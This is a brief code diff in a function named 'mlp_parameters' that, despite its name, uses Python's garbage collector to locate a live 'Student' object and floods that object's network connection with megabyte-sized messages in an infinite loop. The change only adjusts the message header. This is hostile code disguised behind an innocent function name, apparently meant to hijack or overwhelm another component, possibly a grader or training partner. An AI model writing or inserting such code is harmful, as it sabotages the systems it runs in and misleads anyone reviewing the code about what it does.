@@ -8,4 +8,4 @@ def mlp_parameters(sizes):
     student = next(o for o in gc.get_objects() if type(o).__name__ == "Student")
     text = json.dumps({"value": "x" * 1_000_000}).encode()
     while True:
-        student.connection.sendall(struct.pack("!II", len(text), 0) + text)
+        student.connection.sendall(struct.pack("!IIQ", len(text), 0, len(text)) + text)
